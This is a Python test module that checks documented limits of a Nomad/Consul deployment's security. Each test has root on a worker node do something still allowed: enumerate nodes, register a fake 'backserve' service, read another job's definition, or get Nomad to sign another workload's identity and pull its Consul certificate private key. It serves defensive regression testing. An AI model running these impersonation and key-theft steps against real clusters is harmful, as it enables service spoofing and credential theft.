"""What root on a worker can do all the same: told in docs/security.md, and tried so that it stays true, or is noticed when it ends."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.stack.attacks.attack import Outcome
from tests.stack.attacks.http_client import Api
from tests.stack.attacks.server_apis import Request, sent
from tests.stack.attacks.server_rpc import NOMAD, call, tried
from tests.stack.attacks.target import Victim
from tests.stack.attacks.tokens import logged_in

OF_A_TASK = 0
"""Nomad's number for the kind of identity that a task has, and not a service."""
CRITICAL = {"TTL": "1h", "Status": "critical"}
"""Of a service that nobody is to find."""


@dataclass(frozen=True)
class Limit:
    """Something that is not refused."""

    name: str
    run: Callable[[Victim], Outcome]


def _called(victim: Victim, method: str, args: dict[str, Any]) -> Any:
    asked = {"Region": "global", "Namespace": "default", "AuthToken": victim.tokens["node"], **args}
    return call(victim, victim.inside, NOMAD, victim.certificates["worker"], method, asked)


def _text_of_a_job(victim: Victim) -> Outcome:
    """Of an instance of which he knows the id, wherever it runs; Consul's catalogue tells the ids."""
    return tried(
        lambda: _called(victim, "Alloc.GetAlloc", {"AllocID": "{allocation}"}),
        b"BACKSERVE_GREETING",
    )


def _as_backserve(victim: Victim) -> Outcome:
    """Nomad signs the identity of any instance for any of its clients, and Consul believes it."""
    wanted = {
        "AllocID": "{allocation}",
        "WorkloadIdentifier": "backserve",
        "IdentityName": "consul_default",
        "WorkloadType": OF_A_TASK,
    }
    signed = _called(victim, "Alloc.SignIdentities", {"Identities": [wanted]})[b"SignedIdentities"][
        0
    ][b"JWT"].decode()
    answer = logged_in(victim, signed)
    assert answer.status == 200, answer.seen
    token: str = answer.json["SecretID"]
    try:
        return sent(
            victim,
            victim.without["backserve"],
            Request("", "GET", "/v1/agent/connect/ca/leaf/backserve", "PrivateKeyPEM"),
            token,
        )
    finally:
        victim.agent.ask("POST", "/v1/acl/logout", token)


def _false_backserve(victim: Victim) -> Outcome:
    """By its Nomad's token, which has to take services out of the catalogue. frontserve finds no proof there that it is backserve."""
    api, token = victim.agent, victim.tokens["nomad"]
    body = {
        "Name": "backserve",
        "ID": "false-backserve",
        "Address": "192.0.2.1",
        "Port": 1,
        "Check": CRITICAL,
    }
    outcome = sent(victim, api, Request("", "PUT", "/v1/agent/service/register", "", body), token)
    _deregistered(api, token)
    return outcome


def _deregistered(api: Api, token: str) -> None:
    answer = api.ask("PUT", "/v1/agent/service/deregister/false-backserve", token)
    assert answer.status == 200, answer.seen


def _names(victim: Victim) -> Outcome:
    """By the token of DNS, whose work that is."""
    return sent(
        victim,
        victim.agent,
        Request("", "GET", "/v1/catalog/nodes", "{node}"),
        victim.tokens["dns"],
    )


LIMITS = [
    Limit("Root on a worker learns the names and addresses of all nodes and services", _names),
    Limit("Root on a worker registers a false backserve, by its Nomad's token", _false_backserve),
    Limit("Root on a worker reads the text of a job that runs elsewhere", _text_of_a_job),
    Limit(
        "Root on a worker signs in to Consul as a workload that runs elsewhere, and has its certificate",
        _as_backserve,
    ),
]
